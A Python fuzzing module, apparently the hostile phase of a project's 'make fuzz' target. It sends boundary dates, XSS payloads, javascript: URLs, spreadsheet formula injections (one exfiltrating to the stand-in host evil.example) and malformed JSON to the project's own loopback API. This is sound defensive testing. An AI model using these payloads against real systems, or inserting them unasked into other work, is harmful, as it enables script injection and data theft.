"""The hostile phase of ``make fuzz``: boundary dates, hostile strings and broken JSON.

Schemathesis generates values from the schema; this sends the ones an attacker picks:
every JSON operation of the schema, as each role, gets bodies whose dates sit on and
past the accepted bounds and whose texts are ``javascript:`` URLs, formulas,
``<script>``, NUL, a right-to-left override or 10,000 characters; then deep and
malformed JSON. A record created with hostile values is read back through its own
endpoints (the stateful part). Bounded in requests and seconds, loopback only (the
stack's own 127.0.0.1 server); any 5xx is a failure.
"""

import datetime
import json
import time
import urllib.error
import urllib.request

TODAY = datetime.datetime.now(datetime.UTC).date()


def _plus_years(day: datetime.date, years: int) -> datetime.date:
    try:
        return day.replace(year=day.year + years)
    except ValueError:  # 29 February
        return day.replace(year=day.year + years, day=28)


TEN_YEARS = _plus_years(TODAY, 10)
BOUNDARY_DATES = [
    datetime.date(1969, 12, 31),
    datetime.date(1970, 1, 1),
    TEN_YEARS,
    TEN_YEARS + datetime.timedelta(days=1),
    datetime.date(9999, 12, 31),
    datetime.date(1, 1, 1),
]
HOSTILE_STRINGS = [
    "javascript:alert(document.domain)",
    " JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://www.linkedin.com.evil.example/in/x",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "nul\x00byte",
    "\u202egnp.exe",
    "x" * 10_000,
    "",
    " ",
]
DEEP_JSON = "[" * 10_000 + "]" * 10_000
BROKEN_JSON = ['{"a": ', "{bad}", '{"a": NaN}', b"\xff\xfe{}"]


class Budget:
    def __init__(self, *, seconds: float, requests: int):
        self.deadline = time.monotonic() + seconds
        self.left = requests

    def spend(self) -> bool:
        self.left -= 1
        return self.left >= 0 and time.monotonic() < self.deadline


class Hostile:
    def __init__(self, base: str, *, budget: Budget):
        assert base.startswith("http://127.0.0.1:"), "loopback only"
        self.base = base
        self.budget = budget
        self.failures: list[str] = []
        self.sent = 0

    def send(self, method: str, path: str, token: str | None, body: str | bytes | None):
        """(status, parsed JSON or None); records a 5xx as a failure."""
        headers = {"Accept": "application/json"}
        if token:
            headers["Authorization"] = f"Token {token}"
        data = None
        if body is not None:
            data = body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body
            headers["Content-Type"] = "application/json"
        request = urllib.request.Request(  # noqa: S310 - our own loopback http URL
            self.base + path, data=data, headers=headers, method=method
        )
        self.sent += 1
        try:
            with urllib.request.urlopen(request, timeout=30) as response:  # noqa: S310
                status, raw = response.status, response.read()
        except urllib.error.HTTPError as exc:
            status, raw = exc.code, exc.read()
        if status >= 500:
            shown = (body[:120] if isinstance(body, str) else repr(body)[:120]) if body else ""
            self.failures.append(f"{method} {path} -> {status}: {shown!r}")
        try:
            return status, json.loads(raw or b"null")
        except ValueError:
            return status, None


def _resolve(schema: dict, node: dict) -> dict:
    while "$ref" in node:
        name = node["$ref"].rsplit("/", 1)[-1]
        node = schema["components"]["schemas"][name]
    return node


def _value(prop: dict, hostile: str, day: datetime.date):
    if prop.get("format") == "date":
        return day.isoformat()
    if prop.get("format") == "date-time":
        return f"{day.isoformat()}T12:00:00+00:00"
    return hostile


def _operations(schema: dict):
    """(method, path template, request properties or None) of every GET/POST/PUT/PATCH."""
    for path, item in schema["paths"].items():
        for method, operation in item.items():
            if method not in ("get", "post", "put", "patch"):
                continue
            content = operation.get("requestBody", {}).get("content", {})
            body = content.get("application/json", {}).get("schema")
            properties = None
            if body is not None:
                properties = _resolve(schema, body).get("properties", {})
            query = [p["name"] for p in operation.get("parameters", []) if p.get("in") == "query"]
            yield method.upper(), path, properties, query


def run(stack, tokens: dict[str, str], *, seconds: float, requests: int, prospect_id: str):
    """Runs the phase; returns (requests sent, failures)."""
    hostile = Hostile(stack.base, budget=Budget(seconds=seconds, requests=requests))
    _, schema = stack.request("GET", "/api/schema/?format=json", token=tokens["admin"])
    operations = list(_operations(schema))
    rounds = max(len(HOSTILE_STRINGS), len(BOUNDARY_DATES))
    for token in tokens.values():
        _stateful(hostile, token)
        for method, template, properties, query in operations:
            path = template
            for name in ("id", "pk", "prospect_id", "token"):
                path = path.replace("{" + name + "}", prospect_id)
            if "{" in path:
                continue
            for n in range(rounds):
                if not hostile.budget.spend():
                    return hostile.sent, hostile.failures
                text = HOSTILE_STRINGS[n % len(HOSTILE_STRINGS)]
                day = BOUNDARY_DATES[n % len(BOUNDARY_DATES)]
                if method == "GET":
                    params = "&".join(f"{q}={urllib.request.quote(text[:2000])}" for q in query)
                    hostile.send("GET", f"{path}?{params}" if params else path, token, None)
                    if not query:
                        break
                    continue
                if not properties:  # an action without a JSON body
                    hostile.send(method, path, token, "{}")
                    break
                body = {name: _value(prop, text, day) for name, prop in properties.items()}
                hostile.send(method, path, token, json.dumps(body))
            if method != "GET":
                for broken in (DEEP_JSON, *BROKEN_JSON):
                    if not hostile.budget.spend():
                        return hostile.sent, hostile.failures
                    status, answer = hostile.send(method, path, token, broken)
                    if status == 400 and (answer or {}).get("code") != "parse_error":
                        hostile.failures.append(f"{method} {path}: broken JSON not a parse_error")
    return hostile.sent, hostile.failures


def _stateful(hostile: Hostile, token: str) -> None:
    """Create a record with hostile values where the rules allow it, then read it back."""
    for text in HOSTILE_STRINGS:
        for day in BOUNDARY_DATES:
            if not hostile.budget.spend():
                return
            body = {
                "full_name": text or "Hostile Name",
                "company": text,
                "job_title": text,
                "notes": text,
                "kind": "b2b",
                "network": "linkedin",
                "profile_url": text,
                "source": "connection",
                "lawful_basis": "legitimate_interest",
                "collected_at": f"{day.isoformat()}T10:00:00+00:00",
            }
            status, created = hostile.send("POST", "/api/prospects/", token, json.dumps(body))
            if status != 201 or not isinstance(created, dict):
                continue
            pk = created["id"]
            for path in (
                f"/api/prospects/{pk}/",
                f"/api/prospects/{pk}/history/",
                f"/api/prospects/{pk}/consents/",
                f"/api/prospects/?search={urllib.request.quote(text[:200])}",
            ):
                hostile.send("GET", path, token, None)
            for later in BOUNDARY_DATES:
                patch = {"collected_at": f"{later.isoformat()}T10:00:00+00:00", "notes": text}
                hostile.send("PATCH", f"/api/prospects/{pk}/", token, json.dumps(patch))
